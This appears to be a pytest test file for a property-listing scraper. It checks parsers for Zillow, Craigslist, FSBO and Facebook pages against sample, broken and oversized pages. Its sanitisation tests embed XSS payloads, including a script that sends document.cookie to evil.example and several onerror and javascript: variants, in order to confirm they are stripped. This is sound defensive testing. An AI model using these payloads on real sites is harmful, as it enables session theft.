"""Each source's parser on realistic pages (the shipped samples) and on broken/adversarial ones."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest
from aiqtest_support.ingestkit import sample, variant

from aiqleads.domain.cleaning.pipeline import clean_record
from aiqleads.domain.core.listings import CleanListing, RawRecord
from aiqleads.workers.scrapers.base import PageParseError
from aiqleads.workers.scrapers.regions import resolve_region
from aiqleads.workers.scrapers.runner import PARSERS
from aiqleads_dev import samples as build
from aiqleads_dev.samples import SAMPLES, Sample, load_shipped_sites, site_pages

BASES = {
    "zillow": "https://www.zillow.com",
    "craigslist": "https://sites.test/{region}",
    "fsbo": "https://fsbo.test",
    "facebook": "https://www.facebook.com",
}


def crawl_offline(
    source: str, pages: dict[str, str], region_slug: str
) -> tuple[list[tuple[RawRecord, CleanListing]], list[Any]]:
    """Follow search pages and detail links through an in-memory site (no network)."""
    parser = PARSERS[source]
    region = resolve_region(region_slug)
    base = BASES[source].format(region=region.craigslist) if "{region}" in BASES[source] else BASES[source]
    root = base.split("/", 3)[:3]
    origin = "/".join(root)
    url: str | None = parser.search_url(BASES[source], region, 1)
    results: list[tuple[RawRecord, CleanListing]] = []
    failures: list[Any] = []
    while url:
        path = url[len(origin) :]
        page = parser.parse_search(pages[path], url, region)
        failures += page.failures
        for listing in page.listings:
            record = listing.record
            if listing.needs_detail and record.url:
                record = parser.parse_detail(pages[record.url[len(origin) :]], record.url, record)
            results.append((record, clean_record(record, now=build.ANCHOR + timedelta(hours=1))))
        url = page.next_url
    return results, failures


def _expect_fields(s: Sample, source: str, clean: CleanListing) -> None:
    assert clean.source == PARSERS[source].source
    assert clean.external_id == s.ident(source)
    assert clean.asking_price == s.price
    assert clean.property_type == s.property_type
    assert (clean.city, clean.state, clean.zip) == (s.city, s.state, s.zip)
    assert clean.street is not None and clean.street.upper() == s.street.upper()
    assert clean.lat == pytest.approx(s.lat, abs=1e-6) and clean.lng == pytest.approx(s.lng, abs=1e-6)
    assert clean.geo_precision == "page"
    assert clean.bedrooms == s.beds
    assert clean.bathrooms == s.baths
    assert clean.sqft == s.sqft
    assert clean.description and clean.description.split()[:4] == s.description.split()[:4]
    assert clean.photos == s.photo_urls(source)
    assert clean.posted_at is not None and abs((clean.posted_at - s.posted()).total_seconds()) < 86_400
    assert clean.url and clean.url.startswith("http")
    if source in ("zillow", "fsbo"):
        assert clean.year_built == s.year
        assert clean.contact_name == s.owner
        assert clean.contact_email == s.email
    if source == "facebook":
        assert clean.contact_name == s.owner
    if source in ("zillow", "fsbo") or s.phone.replace("(", "").replace(")", "") in s.description:
        assert clean.contact_phone is not None and clean.contact_phone[-4:] == s.phone[-4:]
    if s.unit:
        assert clean.unit is not None and clean.unit.replace(" ", "").endswith(s.unit.split()[-1])
    assert clean.title and "<" not in clean.title
    assert clean.dedup_key and clean.dedup_key.endswith(s.zip)


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_every_field_of_every_shipped_sample(source: str) -> None:
    sites, regions = load_shipped_sites()
    expected = {s.ident(source): s for s in SAMPLES if source in s.sources}
    seen: dict[str, CleanListing] = {}
    for region in regions[source]:
        results, failures = crawl_offline(source, sites[source], region)
        assert failures == []
        seen.update({clean.external_id: clean for _, clean in results})
    assert set(seen) == set(expected)
    for ident, clean in seen.items():
        _expect_fields(expected[ident], source, clean)


def test_shipped_samples_span_sources_and_metros() -> None:
    sites, regions = load_shipped_sites()
    assert {len(regions[s]) for s in regions} >= {3}
    metros = {s.city for s in SAMPLES}
    assert len(metros) == 10
    assert sum(1 for s in SAMPLES if len(s.sources) >= 3) >= 1  # a property listed on several sites
    assert len(SAMPLES) >= 25
    # the shipped files are exactly what the generator writes (regenerate with the build module)
    assert sites == site_pages()


def test_zillow_variants_of_the_embedded_json() -> None:
    parser = PARSERS["zillow"]
    region = resolve_region("dallas")
    s = sample("velasco")
    state = {"cat1": {"searchResults": {"listResults": [build.zillow_result(s)]}}}
    legacy = (
        '<html><body><script type="application/json" data-zrr-shared-data-key="mobileSearchPageStore">'
        f"<!--{json.dumps(state)}--></script></body></html>"
    )
    for text in (legacy, json.dumps(state)):  # older comment-wrapped store, bare search API response
        page = parser.parse_search(text, "https://www.zillow.com/dallas-tx/fsbo/", region)
        assert [item.record.external_id for item in page.listings] == [s.ident("zillow")]
    # a listing missing its id or not for sale is a recorded failure, the others still parse
    broken = build.zillow_result(s)
    broken.pop("zpid")
    broken["hdpData"]["homeInfo"].pop("zpid")
    rented = {**build.zillow_result(sample("swiss")), "statusType": "FOR_RENT"}
    state["cat1"]["searchResults"]["listResults"] += [broken, rented, "garbage"]
    page = parser.parse_search(json.dumps(state), "https://www.zillow.com/x/", region)
    assert len(page.listings) == 1
    assert [f.reason for f in page.failures] == [
        "search result has no zpid",
        f"listing {sample('swiss').ident('zillow')} is not for sale (FOR_RENT)",
        "search result is not an object",
    ]
    assert '"statusType":"FOR_RENT"' in page.failures[1].fragment


@pytest.mark.parametrize(
    ("source", "page"),
    [
        ("zillow", "<html><body><div id='grid-search-results'>new React app</div></body></html>"),
        (
            "zillow",
            '<html><script id="__NEXT_DATA__" type="application/json">{"props": {broken</script></html>',
        ),
        ("zillow", '<html><script id="__NEXT_DATA__" type="application/json">{"props": {}}</script></html>'),
        ("craigslist", "<html><body><div class='results'><p>redesigned</p></div></body></html>"),
        ("fsbo", "<html><body><section class='cards'></section></body></html>"),
        ("facebook", "<html><body><div>Log in to continue</div></body></html>"),
        (
            "facebook",
            '<html><script type="application/json" data-sjs>{"require": [["__bbox"]]}</script></html>',
        ),
    ],
)
def test_changed_markup_is_a_page_parse_error(source: str, page: str) -> None:
    with pytest.raises(PageParseError):
        PARSERS[source].parse_search(page, "https://site.test/x", resolve_region("dallas"))


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_detail_page_with_changed_markup_is_a_page_parse_error(source: str) -> None:
    stub = RawRecord(source=PARSERS[source].source, external_id="1", url="https://site.test/1")
    with pytest.raises(PageParseError):
        PARSERS[source].parse_detail(
            "<html><body><main>Nothing here</main></body></html>", stub.url or "", stub
        )


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_missing_fields_still_parse_what_is_there(source: str) -> None:
    bare = variant(
        sample("kinney"), beds=None, baths=None, sqft=None, year=None, email=None, photos=1,
        sources=(source,), region="austin",
    )  # fmt: skip
    results, failures = crawl_offline(source, site_pages([bare])[source], "austin")
    assert failures == []
    [(_, clean)] = results
    assert clean.asking_price == bare.price and clean.city == "Austin" and clean.zip == "78704"
    assert clean.sqft is None and clean.year_built is None and clean.contact_email is None


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_html_injection_in_descriptions_is_sanitised(source: str) -> None:
    hostile = variant(
        sample("kinney"),
        sources=(source,),
        region="austin",
        title='Cute house <script>alert("t")</script><img src=x onerror=alert(1)>',
        description=(
            "Lovely home.</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
            '<a href="javascript:alert(1)">details</a><iframe src="https://evil.example"></iframe> Call '
            "512-555-0147."
        ),
    )
    results, _ = crawl_offline(source, site_pages([hostile])[source], "austin")
    [(_, clean)] = results
    for text in (clean.title, clean.description):
        assert text is not None
        assert "<" not in text and "script" not in text and "evil.example" not in text and "alert" not in text
    assert clean.description is not None and clean.description.startswith("Lovely home.")
    assert "details" in clean.description and "512-555-0147" in clean.description


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_double_and_triple_escaped_injection_is_sanitised_on_every_source(source: str) -> None:
    payload = (
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &#x26;lt;img src=x onerror=alert(2)&#x26;gt; "
        "&amp;amp;lt;ScRiPt&amp;amp;gt;alert(3)&amp;amp;lt;/sCrIpT&amp;amp;gt; "
        "&lt;a href=&quot;JavaScript:alert(4)&quot;&gt;tour&lt;/a&gt; javascript:alert(5)"
    )
    hostile = variant(
        sample("kinney"), sources=(source,), region="austin",
        title=f"Cute house {payload}", description=f"Lovely home. {payload} Call 512-555-0147.",
    )  # fmt: skip
    results, _ = crawl_offline(source, site_pages([hostile])[source], "austin")
    [(_, clean)] = results
    for text in (clean.title, clean.description):
        assert text is not None
        assert "<" not in text and ">" not in text and "&lt;" not in text, text
        assert "javascript" not in text.lower() and "onerror" not in text, text
    assert clean.description is not None and clean.description.startswith("Lovely home.")
    assert "tour" in clean.description and "512-555-0147" in clean.description


@pytest.mark.parametrize("source", ["zillow", "craigslist", "fsbo", "facebook"])
def test_huge_pages_parse_with_bounded_fields(source: str) -> None:
    many = [
        variant(sample("kinney"), sources=(source,), region="austin", description="Big. " * 50_000)
        for _ in range(40)
    ]
    pages = site_pages(many, per_page=40)[source]
    results, failures = crawl_offline(source, pages, "austin")
    assert len(results) == 40 and failures == []
    assert all(clean.description is not None and len(clean.description) <= 5001 for _, clean in results)
